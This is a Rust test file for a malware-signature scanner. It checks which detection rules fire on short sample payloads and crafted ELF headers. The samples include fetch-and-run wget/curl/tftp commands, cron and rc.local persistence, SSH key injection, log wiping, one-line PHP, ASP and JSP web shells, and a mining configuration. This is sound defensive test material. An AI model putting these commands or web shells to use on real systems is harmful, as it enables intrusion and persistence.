//! Texts and heads of files, made for these tests and harmless: none of them does anything where it is run.

use std::collections::BTreeSet;

use komainu_ports::PayloadScanner;
use komainu_yara::{BUILT_IN_NAMESPACE, Engine, SCAN_BYTES_MAX};

/// The rules that hold for a payload.
fn holding(engine: &Engine, payload: &[u8]) -> Vec<String> {
    let found = engine.scan(payload).unwrap();
    assert!(found.iter().all(|one| one.namespace == BUILT_IN_NAMESPACE), "{found:?}");
    found.into_iter().map(|one| one.rule).collect()
}

/// The head of an ELF file (System V ABI, chapter 4): 32 bits, with one segment; and with one section, if it is to have one.
fn elf(machine: u8, is_big_endian: bool, sections: u8, rest: &[u8]) -> Vec<u8> {
    let half = |value: u8| if is_big_endian { [0, value] } else { [value, 0] };
    let word = |value: u8| if is_big_endian { [0, 0, 0, value] } else { [value, 0, 0, 0] };
    let mut head = vec![0x7F, b'E', b'L', b'F', 1, 1 + u8::from(is_big_endian), 1];
    head.resize(16, 0);
    head.extend(half(2));
    head.extend(half(machine));
    head.extend(word(1));
    // Where it begins, its segments, its sections, its flags.
    head.extend([word(0), word(52), word(if sections > 0 { 84 } else { 0 }), word(0)].concat());
    head.extend([half(52), half(32), half(1), half(40), half(sections), half(0)].concat());
    head.extend([0; 32]);
    head.extend(vec![0; 40 * usize::from(sections)]);
    head.extend(rest);
    head
}

const MIPS: u8 = 8;
const ARM: u8 = 40;
const X86_64: u8 = 62;

/// Payloads, and all rules that hold for each.
fn examples() -> Vec<(Vec<u8>, &'static [&'static str])> {
    let texts: [(&str, &'static [&'static str]); 36] = [
        ("", &[]),
        ("#!/bin/sh\necho hello\n", &[]),
        // Fetching and running.
        (
            "wget http://192.0.2.1/hello.txt || curl -O http://192.0.2.1/hello.txt\nchmod 777 hello.txt; ./hello.txt\n",
            &["script_fetches_and_runs"],
        ),
        (
            "tftp -g -r hello.txt 192.0.2.1; ftpget -v 192.0.2.1 hello.txt; chmod +x hello.txt; sh hello.txt\n",
            &["script_fetches_and_runs"],
        ),
        ("wget http://192.0.2.1/hello.txt; chmod 777 hello.txt; ./hello.txt\n", &[]),
        ("wget http://192.0.2.1/a\ncurl http://192.0.2.1/a\nls; sh a.sh\n", &[]),
        ("Use wget or curl to fetch it, then chmod +x it and run ./setup.\n", &[]),
        // One processor after the other.
        ("for a in arm7 mips mpsl sh4 i686; do wget http://192.0.2.1/hello.$a; done\n", &["script_tries_processors"]),
        ("for a in arm mips; do wget http://192.0.2.1/hello.$a; done\n", &[]),
        ("Packages for arm, mips, mipsel, ppc, sh4 and i386 are there.\n", &[]),
        // Asking BusyBox.
        ("cat /proc/mounts; /bin/busybox KOMAINU\n", &["script_probes_busybox"]),
        ("/bin/busybox cat /proc/mounts; busybox wget\n", &[]),
        // Killing others.
        (
            "for p in /proc/[0-9]*; do ls -l $p/exe | grep /tmp/hello && kill -9 ${p#/proc/}; done\n",
            &["script_kills_others"],
        ),
        ("kill -9 1234; cat /proc/cpuinfo\n", &[]),
        // Cron.
        ("echo '*/5 * * * * /tmp/hello' > /var/spool/cron/root\n", &["script_starts_by_cron"]),
        ("(crontab -l; echo '@reboot /var/tmp/hello') | crontab -\n", &["script_starts_by_cron"]),
        ("crontab -l\n", &[]),
        ("*/5 * * * * root /tmp/hello\n", &[]),
        // At boot.
        ("echo '/tmp/hello &' >> /etc/rc.local\n", &["script_starts_at_boot"]),
        ("cp hello /etc/init.d/S99hello\n", &["script_starts_at_boot"]),
        ("cat /etc/rc.local; ls /etc/init.d/\n", &[]),
        // Keys.
        ("echo 'ssh-rsa AAAAthisisnokey nobody' >> ~/.ssh/authorized_keys\n", &["script_adds_ssh_key"]),
        ("ssh-rsa AAAAthisisnokey nobody\n", &[]),
        ("-----BEGIN PRIVATE KEY-----\nVGhpcyBpcyBubyBrZXksIGJ1dCB0ZXh0IGluIGJhc2U2NC4=\n", &["private_key"]),
        ("-----BEGIN PUBLIC KEY-----\nVGhpcyBpcyBubyBrZXksIGJ1dCB0ZXh0IGluIGJhc2U2NC4=\n", &[]),
        ("A key begins with -----BEGIN PRIVATE KEY-----.\n", &[]),
        // Tracks.
        ("history -c; rm -rf /var/log/wtmp\n", &["script_covers_tracks"]),
        ("history | tail; ls /var/log/wtmp\n", &[]),
        // Pages that run what a request says.
        ("<?php system($_GET['hello']); ?>", &["web_shell_php"]),
        ("<?php echo htmlspecialchars($_GET['hello']); system('date'); ?>", &[]),
        ("<% eval request(\"hello\") %>", &["web_shell_asp"]),
        ("<% Response.Write(Request(\"hello\")) %>", &[]),
        ("<% Runtime.getRuntime().exec(request.getParameter(\"hello\")); %>", &["web_shell_jsp"]),
        ("<% out.print(request.getParameter(\"hello\")); %>", &[]),
        // Mining.
        (
            "{\"url\": \"stratum+tcp://pool.example:3333\", \"user\": \"nobody\", \"pass\": \"x\"}",
            &["mining_configuration"],
        ),
        ("The user reads about stratum 1 servers of NTP, ntp://ntp.example.\n", &[]),
    ];
    let mut examples: Vec<(Vec<u8>, &[&str])> =
        texts.into_iter().map(|(text, rules)| (text.as_bytes().to_vec(), rules)).collect();
    examples.extend([
        (elf(MIPS, true, 1, b""), &["program_for_devices"][..]),
        (elf(ARM, false, 1, b""), &["program_for_devices"][..]),
        (elf(X86_64, false, 1, b""), &[]),
        (elf(X86_64, false, 0, b""), &["program_without_sections"]),
        (elf(X86_64, false, 1, b"UPX!"), &["program_packed_with_upx"]),
        (elf(ARM, false, 0, b"UPX!"), &["program_for_devices", "program_packed_with_upx", "program_without_sections"]),
        (b"UPX! is the mark of a packer".to_vec(), &[]),
        (b"\x7fELF".to_vec(), &[]),
    ]);
    examples
}

#[test]
fn each_rule_holds_for_what_it_is_about_and_for_nothing_near_it() {
    let (engine, taken) = Engine::compile(&[]);
    let mut shown = BTreeSet::new();
    for (payload, expected) in examples() {
        let seen = holding(&engine, &payload);
        assert_eq!(seen, expected, "{}", payload.escape_ascii());
        shown.extend(seen);
    }
    assert_eq!(shown.len(), taken.built_in, "a rule has no example that it holds for: {shown:?}");
}

#[test]
fn each_rule_says_what_it_is_and_how_sure() {
    let (engine, _) = Engine::compile(&[]);
    for (payload, _) in examples() {
        for one in engine.scan(&payload).unwrap() {
            let value = |name: &str| one.meta.iter().find(|(key, _)| key == name).map(|(_, value)| value.as_str());
            assert!(value("description").is_some_and(|text| text.len() > 20), "{one:?}");
            assert!(value("mitre_technique_id").is_some_and(|id| id.starts_with('T')), "{one:?}");
            let is_sure = value("komainu_confidence").and_then(|value| value.parse::<u8>().ok());
            assert!(value("komainu_label").is_none() || is_sure.is_some_and(|confidence| confidence <= 100), "{one:?}");
        }
    }
}

#[test]
fn bytes_of_any_kind_are_scanned() {
    let (engine, _) = Engine::compile(&[]);
    // A line that almost fits, again and again, and the head of a program in front of nonsense.
    let line = b"wget http://192.0.2.1/a; curl chmod +x /proc/* * * * * eval( $_GET busybox AAAAAAAAAAAAAAAAAAAAAAA\n";
    let lines: Vec<u8> = line.iter().copied().cycle().take(4 << 20).collect();
    engine.scan(&lines).unwrap();
    let mut odd = elf(MIPS, true, 255, b"");
    odd.resize(1 << 20, 0xFF);
    for byte in 0..64 {
        odd[byte] ^= 0xA5;
        engine.scan(&odd).unwrap();
        odd[byte] ^= 0xA5;
    }
    engine.scan(&vec![0; SCAN_BYTES_MAX]).unwrap();
}
